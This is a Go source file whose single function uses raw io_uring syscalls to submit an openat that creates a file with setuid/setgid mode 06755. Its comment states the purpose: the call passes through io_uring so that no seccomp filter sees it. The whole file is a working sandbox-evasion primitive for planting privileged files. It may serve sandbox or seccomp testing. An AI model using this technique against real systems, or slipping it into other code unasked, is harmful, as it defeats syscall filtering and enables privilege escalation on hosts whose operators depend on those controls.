package main

import (
	"encoding/binary"
	"fmt"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// ioUringParams is struct io_uring_params.
type ioUringParams struct {
	sqEntries, cqEntries, flags, sqThreadCPU, sqThreadIdle, features, wqFD uint32
	resv                                                                   [3]uint32
	sqOff                                                                  [8]uint32
	sqUserAddr                                                             uint64
	cqOff                                                                  [8]uint32
	cqUserAddr                                                             uint64
}

// uringCreate creates path with mode 06755 through io_uring's openat, which
// no seccomp filter sees, and returns the result of the operation.
func uringCreate(path string) (int32, error) {
	const (
		sysSetup, sysEnter            = 425, 426
		offSQRing, offCQRing, offSQEs = 0, 0x8000000, 0x10000000
		opOpenat, enterGetEvents      = 18, 1
	)
	var p ioUringParams
	fd, _, errno := unix.Syscall(sysSetup, 4, uintptr(unsafe.Pointer(&p)), 0)
	if errno != 0 {
		return 0, fmt.Errorf("io_uring_setup: %w", errno)
	}
	defer unix.Close(int(fd))
	sqSize := int(p.sqOff[6] + p.sqEntries*4)
	cqSize := int(p.cqOff[5] + p.cqEntries*16)
	sq, err := unix.Mmap(int(fd), offSQRing, sqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return 0, err
	}
	cq, err := unix.Mmap(int(fd), offCQRing, cqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return 0, err
	}
	sqes, err := unix.Mmap(int(fd), offSQEs, int(p.sqEntries)*64, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return 0, err
	}
	name := append([]byte(path), 0)
	sqe := sqes[:64]
	clear(sqe)
	sqe[0] = opOpenat
	dirfd := int32(unix.AT_FDCWD)
	binary.LittleEndian.PutUint32(sqe[4:], uint32(dirfd))
	binary.LittleEndian.PutUint64(sqe[16:], uint64(uintptr(unsafe.Pointer(&name[0]))))
	binary.LittleEndian.PutUint32(sqe[24:], 0o6755)
	binary.LittleEndian.PutUint32(sqe[28:], unix.O_CREAT|unix.O_WRONLY)
	tail := (*uint32)(unsafe.Pointer(&sq[p.sqOff[1]]))
	mask := *(*uint32)(unsafe.Pointer(&sq[p.sqOff[2]]))
	array := unsafe.Pointer(&sq[p.sqOff[6]])
	*(*uint32)(unsafe.Add(array, 4*(*tail&mask))) = 0
	*tail = *tail + 1
	if _, _, errno := unix.Syscall6(sysEnter, fd, 1, 1, enterGetEvents, 0, 0); errno != 0 {
		return 0, fmt.Errorf("io_uring_enter: %w", errno)
	}
	runtime.KeepAlive(name)
	return int32(binary.LittleEndian.Uint32(cq[p.cqOff[5]+8:])), nil
}
